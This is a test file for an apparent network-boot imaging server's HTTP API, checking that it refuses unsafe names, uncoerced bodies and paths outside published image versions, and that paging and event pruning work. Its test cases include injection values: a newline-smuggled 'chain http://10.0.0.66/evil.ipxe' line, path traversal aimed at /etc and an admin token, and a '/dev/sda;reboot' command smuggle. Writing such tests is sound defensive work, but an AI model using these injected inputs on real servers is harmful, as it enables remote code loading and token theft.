import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { randomBytes } from 'node:crypto';
import { makeWorld } from '../support/world.js';
import { lifeboat } from '../support/cli.js';
import { startLocalServer, type LocalServer } from '../support/local-server.js';

/**
 * Input at the API edge (issue 11, items 3 and 4), against a real `lifeboat serve`: every name
 * that would reach a script, a path or a command is refused when the task is created, with the
 * reason; bodies are not type-coerced; a path the file system refuses is the client's 4xx; the
 * store serves only files of published versions, judged on the real path.
 */

const MAC = '52:54:00:00:0b:01';
type ErrorBody = { error: { code: string; message: string } };

async function post(server: LocalServer, path: string, body: unknown, method = 'POST'): Promise<{ status: number; body: ErrorBody & Record<string, unknown> }> {
  const r = await fetch(`${server.url}${path}`, { method, headers: { authorization: `Bearer ${server.token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  return { status: r.status, body: (await r.json()) as ErrorBody & Record<string, unknown> };
}

async function tasks(server: LocalServer): Promise<unknown[]> {
  return (await server.api<unknown[]>('GET', '/api/v1/tasks')).body;
}

test('image names that would become script lines or paths are refused when the task is created', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const server = await startLocalServer(world);
  const cases: Array<[unknown, RegExp]> = [
    [{ kind: 'capture', mac: MAC, image: 'x\nshell\nchain http://10.0.0.66/evil.ipxe' }, /image name "x\\nshell\\nchain http:\/\/10\.0\.0\.66\/evil\.ipxe" is not allowed: use 1–64 letters/],
    [{ kind: 'capture', mac: MAC, image: '../../etc/secx' }, /image name "\.\.\/\.\.\/etc\/secx" is not allowed/],
    [{ kind: 'nuke', mac: MAC, image: '../../etc/secx' }, /image name "\.\.\/\.\.\/etc\/secx" is not allowed/],
    [{ kind: 'compare', mac: MAC, image: 'web\r\nexit' }, /image name "web\\r\\nexit" is not allowed/],
    [{ kind: 'nuke', mac: MAC, image: 'web@../../secx' }, /version "\.\.\/\.\.\/secx" is not a version name/],
    [{ kind: 'nuke', mac: MAC, image: 'web@20261127T141300Z\nshell' }, /version "20261127T141300Z\\nshell" is not a version name/],
    [{ kind: 'capture', mac: MAC, image: 'web@20261127T141300Z' }, /a capture names the image to publish, without @VERSION/],
    [{ kind: 'capture', mac: MAC, image: 'a'.repeat(65) }, /is not allowed/],
    [{ kind: 'capture', mac: MAC, image: 'web', options: { captureImage: '../x' } }, /captureImage/],
    [{ kind: 'nuke', mac: MAC, image: 'web', options: { edits: { dropDisks: ['/dev/sda;reboot'] } } }, /dropDisks/],
    [{ kind: 'nuke', mac: MAC, image: 'web', options: { edits: { diskMap: { '/dev/sda': '/dev/../etc/x' } } } }, /diskMap/],
    [{ kind: 'nuke', mac: 'zz:54:00:00:0b:01', image: 'web' }, /mac/],
  ];
  for (const [body, reason] of cases) {
    const r = await post(server, '/api/v1/tasks', body);
    assert.equal(r.status, 400, JSON.stringify(body));
    assert.equal(r.body.error.code, 'LB_INVALID', JSON.stringify(body));
    assert.match(r.body.error.message, reason, JSON.stringify(body));
  }
  const rename = await post(server, `/api/v1/hosts/${MAC}`, { name: 'web\nshell' }, 'PUT');
  assert.equal(rename.status, 400);
  assert.match(rename.body.error.message, /body\/name must match pattern/);
  const imageParam = await fetch(`${server.url}/api/v1/images/..%2F..%2Fetc`, { headers: { authorization: `Bearer ${server.readToken}` } });
  assert.equal(imageParam.status, 400);
  assert.deepEqual(await tasks(server), [], 'no refused call created a task');

  // A good name still works, and its script line is the name and nothing else.
  const ok = await post(server, '/api/v1/tasks', { kind: 'capture', mac: MAC, image: 'web-1.2_x' });
  assert.equal(ok.status, 201, JSON.stringify(ok.body));
  assert.equal(ok.body.image, 'web-1.2_x');
});

test('bodies are checked as sent, not coerced; path parameters and query strings still are', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const server = await startLocalServer(world);
  const cases: Array<[unknown, RegExp]> = [
    [{ kind: ['nuke'], mac: MAC, image: 'web' }, /body\/kind must be string/],
    [{ kind: 'capture', mac: MAC, image: 12345 }, /body\/image must be string/],
    [{ kind: 'capture', mac: MAC, image: ['web'] }, /body\/image must be string/],
    [{ kind: 'capture', mac: MAC, image: 'web', options: { reboot: 'false' } }, /body\/options\/reboot must be boolean/],
    [{ kind: 'capture', mac: MAC, image: 'web', options: { dryRun: 1 } }, /body\/options\/dryRun must be boolean/],
    [{ kind: 'nuke', mac: MAC, image: 'web', options: { edits: { lvSizes: { 'vg/root': '1024' } } } }, /must be integer/],
    [{ kind: 'capture', mac: MAC, image: 'web', options: null }, /body\/options must be object/],
  ];
  for (const [body, reason] of cases) {
    const r = await post(server, '/api/v1/tasks', body);
    assert.equal(r.status, 400, JSON.stringify(body));
    assert.match(r.body.error.message, reason, JSON.stringify(body));
  }
  const renamed = await post(server, `/api/v1/hosts/${MAC}`, { name: 42 }, 'PUT');
  assert.equal(renamed.status, 400);
  assert.match(renamed.body.error.message, /body\/name must be string/);
  assert.deepEqual(await tasks(server), []);

  const created = await post(server, '/api/v1/tasks', { kind: 'capture', mac: MAC, image: 'web' });
  assert.equal(created.status, 201);
  const byId = await server.api<{ id: number }>('GET', `/api/v1/tasks/${String(created.body.id)}`);
  assert.equal(byId.status, 200, 'the id in the path is coerced to an integer');
  assert.equal(byId.body.id, created.body.id);
  const events = await server.api<unknown[]>('GET', `/api/v1/events?task=${String(created.body.id)}&limit=5`);
  assert.equal(events.status, 200, 'query integers are coerced');
  assert.ok(events.body.length >= 1);
  const badQuery = await server.api<ErrorBody>('GET', '/api/v1/events?limit=lots');
  assert.equal(badQuery.status, 400);
  assert.match(badQuery.body.error.message, /querystring\/limit must be integer/);
});

test('a path the file system refuses is a 4xx with the reason, never a 500; the store serves only published versions by their real path', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const server = await startLocalServer(world);
  const version = '20261201T000000Z';
  const published = join(server.store, 'web', version);
  const incoming = join(server.store, 'web', '.incoming-abc');
  await mkdir(join(published, 'data'), { recursive: true });
  await mkdir(incoming, { recursive: true });
  await writeFile(join(published, 'manifest.json'), '{"published":true}');
  await writeFile(join(incoming, 'manifest.json'), '{"half":"written"}');
  await writeFile(join(server.store, 'web', 'notes.txt'), 'beside the versions');
  await writeFile(join(world.dir, 'outside.txt'), 'outside the store');
  await symlink('../.incoming-abc/manifest.json', join(published, 'into-incoming.json'));
  await symlink(join(world.dir, 'outside.txt'), join(published, 'outside.txt'));
  await symlink('../notes.txt', join(published, 'notes.txt'));
  await symlink(join(server.dataDir, 'admin-token'), join(published, 'data', 'token'));
  await symlink('manifest.json', join(published, 'alias.json'));
  // A version-named link to the incoming directory: named like a published version, it is not one.
  await symlink('.incoming-abc', join(server.store, 'web', '20261202T000000Z'));
  await symlink('loop-b', join(published, 'loop-a'));
  await symlink('loop-a', join(published, 'loop-b'));

  // With the read-only token: /api/v1 reads need one, and the store and boot files ignore it.
  const get = async (path: string) => {
    const r = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${server.readToken}` } });
    return { status: r.status, text: await r.text() };
  };
  assert.deepEqual(await get(`/store/web/${version}/manifest.json`), { status: 200, text: '{"published":true}' });
  assert.deepEqual(await get(`/store/web/${version}/alias.json`), { status: 200, text: '{"published":true}' }, 'a link inside the version is fine');
  for (const path of [
    `/store/web/${version}/into-incoming.json`,
    `/store/web/${version}/outside.txt`,
    `/store/web/${version}/notes.txt`,
    `/store/web/${version}/data/token`,
    '/store/web/20261202T000000Z/manifest.json',
    '/store/web/.incoming-abc/manifest.json',
    '/store/web/notes.txt',
    `/store/web/${version}`,
    `/store/web/${version}/loop-a`,
    `/store/web/${version}/..%2F..%2F..%2Fadmin-token`,
  ]) {
    const r = await get(path);
    assert.equal(r.status, 404, `${path}: ${r.text}`);
    assert.doesNotMatch(r.text, /"published":true|written|outside the store|beside the versions|^[A-Za-z0-9_-]{20,}$/, path);
    assert.match(r.text, /LB_NOT_FOUND/, path);
  }

  const long = 'a'.repeat(300);
  const refusals: Array<[string, number, RegExp]> = [
    [`/store/web/${version}/${long}`, 400, /longer than a file name may be/],
    [`/store/web/${version}/data/${long}/x`, 400, /longer than a file name may be/],
    [`/store/web/${version}/manifest.json/x`, 404, /does not exist/],
    [`/store/${long}/${version}/x`, 404, /not a file of a published image version/],
    // Path parameters longer than 100 characters are refused before any route runs.
    [`/boot/${long}`, 414, /FST_ERR_MAX_PARAM_LENGTH.*exceeding the max param length/],
    [`/boot/rescue/${long}`, 414, /exceeding the max param length/],
    [`/api/v1/tasks/1/files/${long}`, 414, /exceeding the max param length/],
    [`/api/v1/images/${'b'.repeat(80)}`, 400, /params\/name must NOT have more than 64 characters/],
    ['/api/v1/images/a..b', 400, /image name \\"a\.\.b\\" is not allowed/],
    [`/boot/%E0%A4%A`, 400, /LB_INVALID|FST_ERR_BAD_URL/],
  ];
  for (const [path, status, says] of refusals) {
    const r = await get(path);
    assert.equal(r.status, status, `${path.slice(0, 60)}: ${r.text}`);
    assert.match(r.text, says, path.slice(0, 60));
    assert.doesNotMatch(r.text, /at .*\.js:\d+|LB_INTERNAL/, 'no stack, no internal error');
  }
  assert.doesNotMatch(await server.log(), /"level":50/, 'no request logged an error');
});

test('anonymous GETs of boot scripts for made-up MACs register no host', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const server = await startLocalServer(world);
  const macs = Array.from({ length: 500 }, () => randomBytes(6).toString('hex').match(/../g)!.join(':'));
  const started = Date.now();
  const scripts = await Promise.all(macs.map(async (m) => (await fetch(`${server.url}/boot/${m}.ipxe`)).text()));
  t.diagnostic(`500 script fetches in ${Date.now() - started} ms`);
  assert.ok(scripts.every((x) => /has no task pending: booting the local disk\nexit/.test(x)));
  assert.deepEqual((await server.api<unknown[]>('GET', '/api/v1/hosts')).body, [], 'no host was registered');
  assert.equal((await server.api<Array<{ kind: string }>>('GET', '/api/v1/events?limit=5000')).body.filter((e) => e.kind === 'host.registered').length, 0);
});

test('hosts, tasks and events page with a limit and a Link to the next page; the CLI lists everything', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const server = await startLocalServer(world);
  const macs = Array.from({ length: 230 }, (_, i) => `52:54:00:0c:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`);
  for (const m of macs) assert.equal((await server.api('PUT', `/api/v1/hosts/${m}`, { name: `h${m.slice(-5)}` })).status, 200);
  for (const m of macs.slice(0, 7)) assert.equal((await server.api('POST', '/api/v1/tasks', { kind: 'capture', mac: m, image: 'web' })).status, 201);

  /** Follows Link rel="next" and returns every page's size and the items. */
  const pages = async <T>(first: string) => {
    const sizes: number[] = [];
    const items: T[] = [];
    for (let next: string | null = first; next; ) {
      const r: Response = await fetch(`${server.url}${next}`, { headers: { authorization: `Bearer ${server.readToken}` } });
      assert.equal(r.status, 200, next);
      const page = (await r.json()) as T[];
      sizes.push(page.length);
      items.push(...page);
      next = /<([^>]+)>; rel="next"/.exec(r.headers.get('link') ?? '')?.[1] ?? null;
    }
    return { sizes, items };
  };
  const hosts = await pages<{ mac: string }>('/api/v1/hosts?limit=100');
  assert.deepEqual(hosts.sizes, [100, 100, 30]);
  assert.deepEqual(new Set(hosts.items.map((h) => h.mac)), new Set(macs));
  const byDefault = await fetch(`${server.url}/api/v1/hosts`, { headers: { authorization: `Bearer ${server.readToken}` } });
  assert.equal(((await byDefault.json()) as unknown[]).length, 200, 'the default page is 200');
  assert.match(byDefault.headers.get('link') ?? '', /^<\/api\/v1\/hosts\?offset=200&limit=200>; rel="next"$/);

  const tasks = await pages<{ id: number; mac: string }>(`/api/v1/tasks?limit=3&state=pending`);
  assert.deepEqual(tasks.sizes, [3, 3, 1]);
  assert.deepEqual(tasks.items.map((x) => x.id), [7, 6, 5, 4, 3, 2, 1], 'newest first, each once');

  const forward = await pages<{ id: number }>('/api/v1/events?after=0&limit=100');
  const ids = forward.items.map((e) => e.id);
  assert.ok(ids.length >= 237, `${ids.length} events`);
  assert.deepEqual(ids, [...ids].sort((a, b) => a - b), 'in order');
  assert.equal(new Set(ids).size, ids.length, 'each once');
  const back = await pages<{ id: number }>('/api/v1/events?limit=100');
  assert.deepEqual(back.items.map((e) => e.id).sort((a, b) => a - b), ids, 'paging back from the newest reaches the same events');
  const tooBig = await server.api<ErrorBody>('GET', '/api/v1/hosts?limit=100000');
  assert.equal(tooBig.status, 400);
  assert.match(tooBig.body.error.message, /querystring\/limit must be <= 1000/);
  assert.equal((await server.api<ErrorBody>('GET', '/api/v1/events?after=1&before=5')).status, 400);

  const tokenFile = join(server.dataDir, 'read-token');
  const listed = await lifeboat(['hosts', 'list', '--json', '--server', server.url, '--token-file', tokenFile]);
  assert.equal(listed.exitCode, 0, listed.stderr);
  assert.equal((JSON.parse(listed.stdout) as unknown[]).length, 230, 'lifeboat hosts list gets every host');
  const taskList = await lifeboat(['tasks', 'list', '--json', '--server', server.url, '--token-file', tokenFile]);
  assert.equal((JSON.parse(taskList.stdout) as unknown[]).length, 7);
});

test('event retention: a restart with --events-keep-rows prunes the log to that many', async (t) => {
  const world = await makeWorld(t, 'lb-edge');
  const first = await startLocalServer(world);
  for (let i = 0; i < 150; i++) await first.api('PUT', `/api/v1/hosts/52:54:00:0d:00:${i.toString(16).padStart(2, '0')}`, { name: `n${i}` });
  const before = (await first.api<Array<{ id: number }>>('GET', '/api/v1/events?after=0&limit=5000')).body;
  assert.ok(before.length > 150);
  first.process.kill('SIGTERM');
  await first.process;
  const again = await startLocalServer(world, { dataDir: first.dataDir, store: first.store, args: ['--events-keep-rows', '100'] });
  const after = (await again.api<Array<{ id: number; kind: string }>>('GET', '/api/v1/events?after=0&limit=5000')).body;
  // The 100 newest of before, then this start's own event.
  assert.deepEqual(after.map((e) => e.id), [...before.slice(-100).map((e) => e.id), after.at(-1)!.id]);
  assert.equal(after.at(-1)!.kind, 'server.started');
  assert.match(await again.log(), /"msg":"pruned \d+ events \(kept 90 days, at most 100\)"/);
});
